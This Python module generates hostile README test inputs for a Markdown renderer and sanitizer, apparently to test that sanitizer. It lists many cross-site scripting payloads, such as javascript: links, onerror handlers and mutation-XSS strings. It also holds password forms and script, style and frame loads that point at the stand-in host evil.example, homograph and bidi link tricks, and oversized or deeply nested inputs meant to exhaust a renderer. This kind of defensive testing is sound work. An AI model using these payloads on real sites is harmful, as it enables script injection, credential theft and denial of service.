"""READMEs that would harm a reader, or cost a renderer much: by name, or of the size that a caller wants."""

from collections.abc import Callable, Mapping

REPEATED = (
    "> ", ">", "- ", "1. ", "- > ", "[^a]: ", "[", "![", "[]()", "[a](", "[a](<b", '[a](b "c', "[a][b]", "[^a]", "*",
    "**a ", "a**b", "*a_ ", "*_", "_a* ", "*a **a ", "~~a ", "`", "<", "<!--", "<?", "<!A ", "<![CDATA[", "</a",
    '<a b="', '<a b=\'<a c="', "&", "&#", "\\", "http://a.b/)", "a@b.c", "a@b.c> ", "a@", "www.a", "|", "|-\n",
    "a|b\n--\n", "|a|\n|-|\n", "#\n", "# a\n", "a\n===\n", "```\n", "```rust\nfn a() {}\n```\n", "- a\n\n", "- [ ] a\n",
    "> [!NOTE]\n> a\n\n", "[a]: b\n", "[^a]: b\n", "<b>", "<b></p>", "<b><p>", "<a href=b>", "<a><div>",
    "<b><i></b>", "<div>", "<div>\n\n", "<details><summary>", "<table>", "<table>x", "<table><tr><td>", "<li>",
    "<p>", "<svg>", "<math><mi>", "<template>", "<select>", "<h1>", "<img src=a>", "<form>", "<script>", "<style>",
    "<textarea>", "<plaintext>", "</p>", "\u00a0", "\0", "[a](../b) ",
)  # fmt: skip

NESTED = (
    ("[", "](b)"), ("![", "](b)"), ("*a ", " b*"), ("[^a", "]"), ("[^a\\]", "]"), ("(", ")"), ("<b>", "</b>"),
    ("<div>", "</div>"), ("<b><p>", "</p></b>"), ("<ul><li>", "</li></ul>"),
)  # fmt: skip


def numbered(line: str) -> Callable[[int], str]:
    """Return a maker of texts of one line again and again, with a number in it that grows."""
    return lambda size: "\n".join(line.replace("N", str(number)) for number in range(size // (len(line) + 4)))


def table(columns: int) -> Callable[[int], str]:
    """Return a maker of tables whose rows are all shorter than their head."""
    return lambda size: f"|{'a|' * columns}\n|{'-|' * columns}\n" + "x\n" * (size // 2 - 2 * columns)


MAKERS: Mapping[str, Callable[[int], str]] = (
    {f"{unit!r} repeated": lambda size, unit=unit: unit * (size // len(unit)) for unit in REPEATED}
    | {
        f"{opening!r} nested": lambda size, opening=opening, closing=closing: (
            opening * (size // len(opening + closing)) + "a" + closing * (size // len(opening + closing))
        )
        for opening, closing in NESTED
    }
    | {
        "reference definitions": numbered("[N]: /u\n\n[N] [x][N]"),
        "a long reference used often": lambda size: f"[a]: /{'u' * (size // 2)}\n\n" + "[a]" * (size // 6),
        "footnotes": numbered("[^N]\n\n[^N]: note\n"),
        "footnotes in footnotes": numbered("[^N]: [^1N]\n"),
        "one footnote used often": lambda size: "[^a]: b\n\n" + "[^a] " * (size // 5 - 2),
        "headings that collide": numbered("# a\n# a-N"),
        "a wide table": lambda size: f"|{'a|' * (size // 4 - 4)}\n|{'-|' * (size // 4 - 4)}\n",
        "a tall table": lambda size: "|a|b|\n|-|-|\n" + "|c|d|\n" * (size // 6 - 3),
        "a table filled up": table(1000),
        "a table filled up, wider": table(30_000),
        "emphasis of two kinds": lambda size: "_a*" * (size // 6) + "*a" * (size // 4),
        "addresses in one word": lambda size: "_www." * (size // 10) + "*" * (size // 2),
        "runs of backticks": lambda size: "".join("e" + "`" * length for length in range(int((2 * size) ** 0.5) - 2)),
        "a list as deep as it gets by indentation": lambda size: "".join(
            f"{'  ' * depth}- a\n" for depth in range(int(size**0.5) - 2)
        ),
        "deep lists and lazy lines": lambda size: "- " * 99 + "a\n" + "b\n" * (size // 2 - 101),
        "open formatting and paragraphs": lambda size: (
            "".join(f"<b c={number}>" for number in range(90)) + "<p>x" * (size // 4 - 230)
        ),
        "a long open link and paragraphs": lambda size: f"<a title='{'x' * (size // 2)}'>" + "<p>x" * (size // 8 - 9),
        "attributes": lambda size: f"<p {' '.join(f'a{number}=b' for number in range(size // 10))}>",
        "code without end": lambda size: "```python\n" + "\n " * (size // 2 - 6),
        "blocks of code of the largest size": lambda size: ("```cpp\n" + "a<b " * 4000 + "\n```\n") * (size // 16_012),
    }
)

ATTACKS = """\
[a](javascript:hit())
[a](JaVaScRiPt:hit())
[a](java&#10;script:hit())
[a](&#1;javascript:hit())
[a](vbscript:hit())
[a](data:text/html,<script>hit()</script>)
![a](data:image/svg+xml,<svg/onload=hit()>)
![a](https://a.b/"onerror="hit())
![a](x "onerror=hit()")
<javascript:hit()>
[a]: javascript:hit()
<a href=javascript:hit()>a</a>
<a href="&#106;avascript:hit()">a</a>
<a href=" javascript:hit()">a</a>
<a href="https://a.b" target=_blank onclick=hit()>a</a>
<img src=x onerror=hit()>
<img/src=x/onerror=hit()>
<img src="x"onerror="hit()">
<img src='a>b' onerror='hit()'>
<IMG SRC=x OnErRoR=hit()>
<img src=`a` onerror=hit()>
<img srcset="javascript:hit() 1x">
<picture><source srcset="data:image/svg+xml,a"></picture>
<svg onload=hit()>
<svg><script>hit()</script></svg>
<svg><animate onbegin=hit() attributeName=a></svg>
<svg><a xlink:href="javascript:hit()"><text>a</text></a></svg>
<math href="javascript:hit()">a</math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=hit() src>">
<noscript><p title="</noscript><img src=x onerror=hit()>">
<style><img src="</style><img src=x onerror=hit()>">
<textarea><img title="</textarea><img src=x onerror=hit()>"></textarea>
<title><img src=x onerror=hit()></title>
<xmp><img src=x onerror=hit()></xmp>
<plaintext><img src=x onerror=hit()>
<iframe src="javascript:hit()"></iframe>
<iframe srcdoc="<script>hit()</script>"></iframe>
<object data="javascript:hit()"></object>
<embed src="javascript:hit()">
<base href="https://evil.example/">
<meta http-equiv=refresh content="0;url=javascript:hit()">
<link rel=stylesheet href="https://evil.example/a.css">
<form action="https://evil.example/"><input name=password><button formaction=javascript:hit()>a</button></form>
<input type=image src=x onerror=hit()>
<input autofocus onfocus=hit()>
<details ontoggle=hit() open>a</details>
<div style="background:url(javascript:hit())">a</div>
<div style="position:fixed;inset:0">a</div>
<style>*{background:red}</style>
<b class="anything else">a</b>
<a id=login name=location>a</a>
<h1 id="document">a</h1>
<img id=cookie name=getElementById>
<video src=x onerror=hit() controls></video>
<audio src=x onerror=hit()></audio>
<marquee onstart=hit()>a</marquee>
<template><img src=x onerror=hit()></template>
<a href="https://a.b" ping="https://evil.example">a</a>
<!--><img src=x onerror=hit()>-->
<!-- --!><img src=x onerror=hit()> -->
<![CDATA[<img src=x onerror=hit()>]]>
<?php <img src=x onerror=hit()> ?>
<scr<script>ipt>hit()</scr</script>ipt>
<<script>hit()//<</script>
<a:b onclick=hit()>a
```"><img/src=x/onerror=hit()>
```rust"onmouseover="hit()
[^"><img src=x onerror=hit()>]
# <img src=x onerror=hit()>"onclick="hit()
> [!NOTE]<img src=x onerror=hit()>
|<img src=x onerror=hit()>|
""".splitlines()

OUTSIDE = "https://evil.example"
BIDI, INVISIBLE, MARKS = "\u202e\u2066\u2067", "\u200b\u200d\ufeff\u00ad", "\u0300\u0301\u0489"


def nest(opening: str, closing: str, depth: int) -> str:
    return opening * depth + "a" + closing * depth


# Each is a README of its own.
LARGER: Mapping[str, str] = {
    "scripts of all kinds": f"""
<script>hit()</script><script src="{OUTSIDE}/a.js"></script><script type="module">import "{OUTSIDE}/a.mjs"</script>
<script type="importmap">{{}}</script><script type="speculationrules">{{}}</script><SCRIPT SRC=//evil.example></SCRIPT>
""",
    "styles that fetch": f'<style>@import "{OUTSIDE}/a.css"; body {{ background: url({OUTSIDE}/a.png) }}</style>',
    "a cover over the page": '<div style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in again</div>',
    "styles in attributes": '<b style="color:red">a</b><font color="red">b</font><table background="/x" bgcolor="red">',
    "a drawing with everything": f"""
<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body onload=hit()></foreignObject><image href="{OUTSIDE}/a"/>
<use href="{OUTSIDE}/a.svg#b"/>
<style>@import "{OUTSIDE}/a.css"</style><set attributeName="href" to="javascript:hit()"/></svg>
""",
    "a formula with everything": """
<math><annotation-xml encoding="text/html"><img src=x onerror=hit()></annotation-xml><maction actiontype="statusline"
xlink:href="javascript:hit()">a</maction><semantics><mglyph src="https://evil.example/a"></mglyph></semantics></math>
""",
    "a form for the password": f"""
<form action="{OUTSIDE}" method="post"><label for="p">Password</label><input type="password" id="p" name="password"
autofocus><textarea name="a"></textarea><select><option>a</option></select>
<button formaction="{OUTSIDE}">Sign in</button></form>
""",
    "inputs without a form": """
<input type="password" form="x"><input type="image" src="https://evil.example/a">
<input type="hidden" name="csrfmiddlewaretoken">
<button popovertarget="main">a</button><datalist><option>a</option></datalist><output>a</output><keygen>
""",
    "data URLs everywhere": """
[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==) ![a](data:image/png;base64,iVBORw0KGgo=)
<a href="DATA:text/html,a">a</a><img src="data:image/svg+xml,<svg/>">
<img srcset="data:image/png,a 1x, https://a.b/c 2x">
<picture><source srcset="data:image/png,a"><img src="data:,"></picture><object data="data:text/html,a"></object>
""",
    "URLs of other schemes": """
[a](file:///etc/passwd) [a](blob:https://a.b/c) [a](filesystem:https://a.b/c) [a](intent://a#Intent;end) [a](ms-word:a)
[a](view-source:https://a.b) [a](about:blank) [a](ws://a.b) [a](ftp://a.b) <a href="feed:javascript:hit()">a</a>
""",
    "homographs": "[https://github.com](https://xn--gthub-n4a.example) "
    "<https://\u0433ithub.example/\u0430lice> \u0430lice "
    "[crates.io](https://\u0441rates.example) https://github.com@evil.example https://github.com\u2044a.evil.example",
    "text from right to left": f"# {BIDI}txt.exe\n\n[{BIDI}a]({OUTSIDE}/{BIDI})\n\n`{BIDI}`\n\n<bdo dir=rtl>a</bdo>\n",
    "invisible text": f"# a{INVISIBLE}b\n\n" + INVISIBLE * 5000,
    "marks above marks": ("a" + MARKS * 1000 + "\n\n") * 10,
    "control characters": "# a\0b\x01c\x1bd\x7fe\u0085f\u2028g\n\n[a\x00](java\x00script:hit())",
    "a table of a megabyte": "|a|b|\n|-|-|\n" + "|c|d|\n" * 180_000,
    "the largest table": f"|{'a|' * 99}\n|{'-|' * 99}\n" + f"|{'b|' * 99}\n" * 800,
    "the widest table": f"|{'a|' * 499}\n|{'-|' * 499}\n",
    "tables in tables": nest("<table><tr><td>", "</td></tr></table>", 33),
    "nested quotes": "> " * 99 + "a",
    "nested lists": "- " * 99 + "a",
    "nested lists of HTML": nest("<ul><li>", "</li></ul>", 49),
    "nested blocks": nest("<div align=right>", "</div>", 99),
    "nested details": nest("<details open><summary>a</summary>", "</details>", 90),
    "nested headings": nest("<h1>", "</h1>", 90),
    "nested small text": nest("<sub>", "</sub>", 99),
    "elements without end": "<div>" * 90 + "<b><i><table><tr><td><a href=https://a.b><h1>",
    "ends of our own elements": "</article></div></main></body></html>" * 20
    + "<footer class=site>a</footer><h1>b</h1>",
    "ends in a table": "<table></article></main><tr></article><td></div></section></aside>",
    "a comment without end": "a <!-- b\n\n<b>c</b>\n\n<!",
    "names of our own elements": """
<a id="main">a</a><a name="announcement"></a><h1 id="cargo-add">b</h1><h2 id="install">c</h2><li id="features">d</li>
<img name="querySelector"><a id="user-content-user-content-main">a</a>

[^main]

[^main]: a
""",
    "classes of our own": '<div class="notice bad">a</div><p class="badge">b</p><a class="button" href=/x>c</a>',
    "attributes of our own scripts": f"""
<div hx-get="{OUTSIDE}" hx-trigger="load" data-hx-get="{OUTSIDE}" hx-on:click="hit()">a</div><b data-copy="main">b</b>
<p contenteditable tabindex="1" accesskey="/" popover inert hidden draggable="true"
itemprop="a" is="x-y">c</p><x-y>d</x-y>
""",
    "frames": f"""
<iframe src="{OUTSIDE}" sandbox="allow-scripts"></iframe><frameset><frame src="{OUTSIDE}"></frameset><object
data="{OUTSIDE}"></object><embed src="{OUTSIDE}"><applet code="a"></applet><portal src="{OUTSIDE}"></portal>
<dialog open>a</dialog>
""",
    "media": f"""
<video src="{OUTSIDE}/a.mp4" autoplay poster="{OUTSIDE}/a.png"><track src="{OUTSIDE}/a.vtt"></video>
<audio src="{OUTSIDE}/a.mp3"
autoplay></audio><bgsound src="{OUTSIDE}/a"><map name="a"><area href="javascript:hit()"></map>
<img usemap="#a" src="a.png">
""",
    "the head of a document": f"""
<base href="{OUTSIDE}/"><meta http-equiv="refresh" content="0;url={OUTSIDE}">
<link rel="stylesheet" href="{OUTSIDE}/a.css">
<link rel="prefetch" href="{OUTSIDE}"><title>b</title>
<meta http-equiv="Content-Security-Policy" content="default-src 'none'">
""",
    "a shadow": "<div><template shadowrootmode=open><script>hit()</script><slot></slot></template>a</div>",
    "images of all kinds": f"""
<img src="http://evil.example/a.png"> <img src="//evil.example/a.png" width="99999" height="99999" crossorigin
referrerpolicy="unsafe-url"
loading="eager" fetchpriority="high"> <img src="{OUTSIDE}/a.png"
srcset="{OUTSIDE}/b.png 2x, //c.d/e 3x" sizes="99999px">
<img src>
<input type="image" src="{OUTSIDE}/a.png"> <picture><source srcset="http://evil.example/a.png"></picture>
""",
    "sizes beyond measure": """
<hr width="99999" size="9"><table width="99999"><tr><td width="99999" colspan="99999">a</td></tr></table>
<img width="9999999999">

<ol start="999999999"><li value="-999999999">a</li></ol>
""",
    "a word of 60,000 letters": "a" * 60_000 + "\n\n`" + "b" * 30_000 + "`\n\n# " + "c" * 30_000,
    "a line of code without end": "```rust\n" + "let a = 1; " * 5000 + "\n```\n\n    " + "b" * 20_000,
    "a thousand badges": "[![a](https://img.shields.io/a.svg)](https://a.b)\n" * 1000,
    "a thousand equal headings": "# <img src=x onerror=hit()> a\n\n" * 1000,
    "a thousand footnotes": "".join(f"[^{number}]\n\n[^{number}]: </li></ol></section>\n\n" for number in range(1000)),
    "code that ends itself": """
```html
</code></pre><img src=x onerror=hit()>
```

```"><b
a
```

`</code><b>`
""",
    "links that are not what they say": f"""
[https://crates.io/](<{OUTSIDE}>) <a href="{OUTSIDE}" title="https://crates.io">Sign in</a>
<a href="{OUTSIDE}" target="_top" download ping="{OUTSIDE}">a</a> <q cite="javascript:hit()">a</q>
""",
}

# Attacks by threes: what one opens can swallow the others, but not the page.
READMES: Mapping[str, str] = {
    **LARGER,
    **{" with ".join(some): "\n\n".join(some) for some in zip(*(ATTACKS[start::3] for start in range(3)), strict=True)},
}
